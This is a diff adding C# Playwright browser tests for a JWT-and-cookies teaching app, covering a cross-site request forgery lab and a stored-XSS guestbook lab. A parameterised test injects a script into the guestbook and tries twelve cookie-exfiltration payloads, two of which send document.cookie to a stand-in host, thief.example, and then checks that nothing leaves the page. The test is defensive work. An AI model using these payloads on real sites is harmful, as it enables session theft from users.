@@ -1,0 +1,149 @@
+using System.Collections.Concurrent;
+using BlazorJwt.Accounts;
+using BlazorJwt.Labs;
+using BlazorJwt.Tests.Support;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Playwright;
+
+namespace BlazorJwt.Tests.Browser;
+
+/// <summary>The labs that stand on the other host: each run from both loopback names, and two visitors at once.</summary>
+public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTest(app, browser)
+{
+    private const string Readable = "Cookie that scripts can read";
+
+    [Theory]
+    [InlineData("localhost")]
+    [InlineData("127.0.0.1")]
+    public async Task The_evil_site_gets_the_cookie_with_SameSite_None_along_and_no_other(string name)
+    {
+        var session = await OpenAsync();
+        var page = session.Page;
+        await page.GotoAsync(At(name, "/"));
+        await page.GotoAsync(At(name, "/labs/evil-site"));
+        await Assertions.Expect(page.GetByText("kept", new() { Exact = true })).ToHaveCountAsync(4);
+        await session.AssertAccessibleAsync("before the evil site");
+
+        await page.GetByRole(AriaRole.Link, new() { Name = "Go to the evil site" }).ClickAsync();
+        await Assertions.Expect(session.Heading).ToHaveTextAsync("You have won");
+        Assert.NotEqual(name, new Uri(page.Url).Host);
+        await session.AssertAccessibleAsync("the evil site");
+        await page.GetByRole(AriaRole.Button, new() { Name = "Order at the unguarded desk" }).ClickAsync();
+        await Assertions.Expect(session.Heading).ToHaveTextAsync("200: the order was taken");
+        await page.GetByRole(AriaRole.Link, new() { Name = "Back to the evil site" }).ClickAsync();
+        await page.GetByRole(AriaRole.Button, new() { Name = "Order at the guarded desk" }).ClickAsync();
+        await Assertions.Expect(session.Heading).ToHaveTextAsync("403: the order was refused");
+        await session.AssertAccessibleAsync("the answer");
+
+        var cells = (await ResultsAsync(session, name)).ToDictionary(cell => cell.Place, cell => (cell.Harmed, cell.Observed));
+        Assert.Equal((true, "came along: order taken; the guarded desk refused"), cells["HttpOnly cookie, SameSite=None"]);
+        Assert.All(["HttpOnly cookie, SameSite=Lax", "HttpOnly cookie, SameSite=Strict", Readable], place => Assert.Equal((false, "did not come along"), cells[place]));
+
+        await page.GetByRole(AriaRole.Button, new() { Name = "Order at the guarded desk from here" }).ClickAsync();
+        await Assertions.Expect(session.Heading).ToHaveTextAsync("200: the order was taken");
+        await Assertions.Expect(page.GetByText("came along", new() { Exact = true })).ToHaveCountAsync(4);
+    }
+
+    [Theory]
+    [InlineData("localhost")]
+    [InlineData("127.0.0.1")]
+    public async Task An_entry_s_script_reads_the_decoys_it_can_reach_and_the_app_s_policy_blocks_it(string name)
+    {
+        var session = await OpenAsync();
+        await OpenBookAsync(session, name);
+        Assert.NotEqual(name, new Uri(session.Page.Url).Host);
+        await session.AssertAccessibleAsync("the guestbook");
+        await session.Page.GetByRole(AriaRole.Button, new() { Name = "A picture that fails" }).ClickAsync();
+
+        var hole = await OpenTabAsync(session, "Open the page with the hole");
+        await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("BlazorJwt-Guestbook-Readable=eyJ");
+        await Assertions.Expect(hole.Locator("#seen")).ToContainTextAsync("localStorage, Cookie that scripts can read.");
+        await Assertions.Expect(session.Page.Locator("#brought")).ToContainTextAsync("Read: localStorage");
+        var strict = await OpenTabAsync(session, "Open the same under the app’s policy");
+        await Assertions.Expect(strict.Locator("#violations")).ToContainTextAsync("script-src-attr blocked inline");
+        await Assertions.Expect(strict.Locator("#outcome")).ToHaveTextAsync("The entry’s script did not run.");
+        await Assertions.Expect(strict.Locator("#loot")).ToHaveTextAsync("Nothing yet.");
+
+        await Assertions.Expect(strict.Locator("#outcome[data-brought]")).ToHaveCountAsync(1);
+        var cells = (await ResultsAsync(session, name)).ToDictionary(cell => cell.Place, cell => (cell.Harmed, cell.Observed));
+        Assert.Equal((true, "read by an entry; the app’s policy blocked it"), cells["localStorage"]);
+        Assert.Equal((true, "read by an entry; the app’s policy blocked it"), cells[Readable]);
+        Assert.Equal((false, "not read; the app’s policy blocked the entry"), cells["HttpOnly cookie, SameSite=Strict"]);
+    }
+
+    [Theory]
+    [InlineData("fetch('https://thief.example/?' + document.cookie).catch(() => {})")]
+    [InlineData("fetch('/labs/guestbook/outcome', { method: 'POST', body: document.cookie }).catch(() => {})")]
+    [InlineData("navigator.sendBeacon('/?' + document.cookie)")]
+    [InlineData("new Image().src = '/x.png?' + document.cookie")]
+    [InlineData("new Image().src = 'https://thief.example/x.png?' + document.cookie")]
+    [InlineData("document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/app.css?' + document.cookie }))")]
+    [InlineData("document.head.append(Object.assign(document.createElement('script'), { src: '/app.js?' + document.cookie }))")]
+    [InlineData("document.body.append(Object.assign(document.createElement('iframe'), { src: '/?' + document.cookie }))")]
+    [InlineData("const form = Object.assign(document.createElement('form'), { action: '/', method: 'post' }); document.body.append(form); form.submit()")]
+    [InlineData("window.open('/?' + document.cookie)")]
+    [InlineData("location.href = '/?' + document.cookie")]
+    [InlineData("new EventSource('/?' + document.cookie)")]
+    public async Task No_request_leaves_the_page_with_the_hole(string script)
+    {
+        var session = await OpenAsync();
+        await OpenBookAsync(session, "localhost");
+        await session.Page.GetByLabel("Or your own").FillAsync($"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 300); {script}</script>");
+        await session.Page.GetByRole(AriaRole.Button, new() { Name = "Write it" }).ClickAsync();
+        await Assertions.Expect(session.Page.GetByRole(AriaRole.Button, new() { Name = "Tear it out" })).ToBeVisibleAsync();
+        var requests = new ConcurrentQueue<string>();
+        await session.Context.RouteAsync("**/*", async route =>
+        {
+            requests.Enqueue(route.Request.Url);
+            await route.ContinueAsync();
+        });
+
+        var hole = await OpenTabAsync(session, "Open the page with the hole");
+
+        await Assertions.Expect(hole.Locator("body[data-done=yes]")).ToHaveCountAsync(1);
+        await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
+        // The page's own address, and the note that the page beside brings to the server.
+        Assert.Equal(["/labs/guestbook/hole", "/labs/guestbook/outcome"], requests.Select(url => new Uri(url).PathAndQuery).Distinct().Order(StringComparer.Ordinal));
+        Assert.Single(requests, url => url.EndsWith("/hole", StringComparison.Ordinal));
+        Assert.Equal(2, session.Context.Pages.Count);
+    }
+
+    [Fact]
+    public async Task A_second_visitor_who_is_there_at_the_same_time_is_untouched()
+    {
+        var first = await OpenAsync();
+        var second = await OpenAsync();
+        await OpenBookAsync(first, "localhost");
+        await OpenBookAsync(second, "localhost");
+        await first.Page.GetByRole(AriaRole.Button, new() { Name = "A picture that fails" }).ClickAsync();
+
+        var hit = await OpenTabAsync(first, "Open the page with the hole");
+        var untouched = await OpenTabAsync(second, "Open the page with the hole");
+
+        await Assertions.Expect(hit.Locator("#loot")).ToContainTextAsync("eyJ");
+        await Assertions.Expect(untouched.Locator("#loot")).ToHaveTextAsync("Nothing yet.");
+        await Assertions.Expect(untouched.GetByText("Nothing is written yet.")).ToBeVisibleAsync();
+        await Assertions.Expect(first.Page.Locator("#brought")).ToContainTextAsync("Read: localStorage");
+        Assert.NotEmpty(await ResultsAsync(first, "localhost"));
+        Assert.Empty(await ResultsAsync(second, "localhost"));
+    }
+
+    private string At(string name, string path) => new UriBuilder(App.BaseAddress) { Host = name, Path = path }.Uri.ToString();
+
+    private async Task OpenBookAsync(PageSession session, string name)
+    {
+        await session.Page.GotoAsync(At(name, "/"));
+        await session.Page.GotoAsync(At(name, "/labs/guestbook"));
+        await session.Page.GetByRole(AriaRole.Link, new() { Name = "Go to the guestbook" }).ClickAsync();
+        await Assertions.Expect(session.Heading).ToHaveTextAsync("Guestbook");
+    }
+
+    private static Task<IPage> OpenTabAsync(PageSession session, string link) =>
+        session.Context.RunAndWaitForPageAsync(() => session.Page.GetByRole(AriaRole.Link, new() { Name = link }).ClickAsync());
+
+    private async Task<IReadOnlyList<LabResult>> ResultsAsync(PageSession session, string name)
+    {
+        var visitor = (await session.Context.CookiesAsync([At(name, "/")])).Single(cookie => cookie.Name == "__Host-BlazorJwt-Visitor").Value;
+        return App.Services.GetRequiredService<LabResults>().For(PrincipalExtensions.SessionOf(visitor)!);
+    }
+}
